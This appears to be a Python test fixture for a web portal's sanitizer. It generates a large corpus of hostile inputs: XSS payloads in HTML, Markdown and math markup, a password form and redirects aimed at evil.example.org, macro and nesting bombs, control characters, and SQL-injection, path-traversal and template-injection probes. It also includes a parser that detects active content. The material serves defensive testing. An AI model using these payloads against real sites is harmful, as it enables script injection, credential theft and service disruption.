"""Texts that try to act, to break out of where they stand, or to cost much: for every place where people write and others read."""

from html.parser import HTMLParser
from itertools import product

CORPUS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&#58;alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    '![x](https://example.org/" onerror="alert(1))',
    "<javascript:alert(1)>",
    "[ref]: javascript:alert(1)\n\n[ref]",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "<style>@import 'https://evil.example.org'</style>",
    "<link rel=stylesheet href=https://evil.example.org>",
    "<meta http-equiv=refresh content='0;url=https://evil.example.org'>",
    "<base href=https://evil.example.org>",
    "<form action=https://evil.example.org><input name=password></form>",
    "<object data=x></object><embed src=x>",
    "<details open ontoggle=alert(1)>",
    "<div hx-get='https://evil.example.org' hx-trigger='load'>x</div>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "\u202e<script>alert(1)</script>",
    "{{ 7|add:7 }}{% debug %}",
)


_ACTS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "vbscript:x",
    "data:text/html,<script>alert(1)</script>",
    "javascript&colon;alert(1)",
    "//evil.example.org/x",
)
_LINKS = (
    "[x]({})", "![x]({})", "<{}>", "[x]: {}\n\n[x]", "[x](<{}>)", "[![x]({})]({})", "<a href='{}'>x</a>", '<img src="{}">',
    "<iframe src='{}'></iframe>", "x[^1]\n\n[^1]: [x]({})", "| a |\n|---|\n| [x]({}) |", "$\\href{{{}}}{{x}}$", "## [x]({})", "> [x]({})",
)  # fmt: skip
_SCRIPT = "<script>alert(1)</script>"
_AROUND = (
    "{}", "${}$", "$\\text{{{}}}$", "$$\n\\text{{{}}}\n$$", "`{}`", "```\n{}\n```", "~~~{}\n~~~", "# {}", "- {}", "> {}", "**{}**", "[{}](x)", "![{}](x)",
    "[x](y \"{}\")", "x[^1]\n\n[^1]: {}", "| {} |\n|---|\n| {} |", "<!-- {} -->", "<![CDATA[{}]]>", "</p>{}", "</div></main></body>{}", "\\{}", "&lt;{}",
)  # fmt: skip
_INSIDE = (
    _SCRIPT, "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<style>*{display:none}</style>", "<math><mtext><style><img src=x onerror=alert(1)></style>",
    "\"onmouseover=alert(1) x=\"",
)  # fmt: skip
_FORMULAS = (
    "$\\color{red}{x}$", "$\\style{position:fixed}{x}$", "$\\class{x}{y}$", "$\\htmlData{a=b}{x}$", "$\\unicode{x3c}script\\unicode{x3e}$",
    "$&lt;script&gt;alert(1)&lt;/script&gt;$", "$&#60;img src=x onerror=alert(1)&#62;$", "$\\newcommand{\\a}{\\a\\a}\\a$", "$\\def\\a{\\a\\a}\\a$",
    "$\\frac$", "$\\left($", "$" + "{" * 900 + "$", "$\\begin{matrix}$", "$^^$", "$\\\\$", "$x$" * 600, "$\\text{</math><script>alert(1)</script>}$",
    "$\\mathrm{</mi></math><img src=x onerror=alert(1)>}$",
)  # fmt: skip
_LONG = (
    "[" * 4000, "![" * 2000, ">" * 4000, "- " * 2000, "*a " * 2000, "`" * 4000, "|a" * 2000 + "\n|-" * 50, "[^a]" * 1500, "$" * 4000, "<" * 4000,
    "&" * 4000, "\\" * 4000, "#" * 4000, "_a" * 2000, "a" * 8000,
)  # fmt: skip
_ODD = (
    "\u202e\u2066x", "\u200b", "\ufeffx", "\x1b[31mred", "\x07", "x\u2028y\u2029z", "\ufffe", "\U000e0001x", "Z" + "\u0300" * 300, "%00", "\U0001f600", "]]>", "%s%d%n", "{{ 7|add:7 }}", "{% debug %}", "${7*7}", "=HYPERLINK(1)", "@import url(x)",
    "' OR 1=1 --", "../../etc/passwd",
)  # fmt: skip


def _framed(frames: tuple[str, ...], texts: tuple[str, ...]) -> list[str]:
    return [
        frame.replace("{{", "\0").replace("}}", "\1").replace("{}", text).replace("\0", "{").replace("\1", "}")
        for frame, text in product(frames, texts)
    ]


PAYLOADS = tuple(dict.fromkeys((*CORPUS, *_framed(_LINKS, _ACTS), *_framed(_AROUND, _INSIDE), *_FORMULAS, *_LONG, *_ODD)))


class Acting(HTMLParser):
    """Collects what could act in a page: foreign elements, handlers, styles, htmx attributes and addresses that run."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        own_formula = tag == "math" and values in ({"display": "inline"}, {"display": "block"})  # the portal writes no other
        own_script = tag == "script" and (values.get("src", "").startswith("/static/") or values == {"type": "application/ld+json"})
        if tag in {"script", "style", "iframe", "object", "embed", "base", "math", "noscript"} and not own_script and not own_formula:
            self.found.append(tag)
        if tag == "meta" and "http-equiv" in values:
            self.found.append("meta refresh")
        for name, value in values.items():
            scheme = "".join(value.split()).lower().partition(":")[0]
            if name.startswith("on") or name == "style" or scheme in {"javascript", "vbscript"}:
                self.found.append(f"{tag} {name}={value}")
            if (name in {"href", "src", "action"} and scheme == "data") or (name.startswith("hx-") and "evil" in value):
                self.found.append(f"{tag} {name}={value}")

    handle_startendtag = handle_starttag


def acting(body: str) -> list[str]:
    """All that acts in a page and that the portal did not put there."""
    parser = Acting()
    parser.feed(body)
    return parser.found
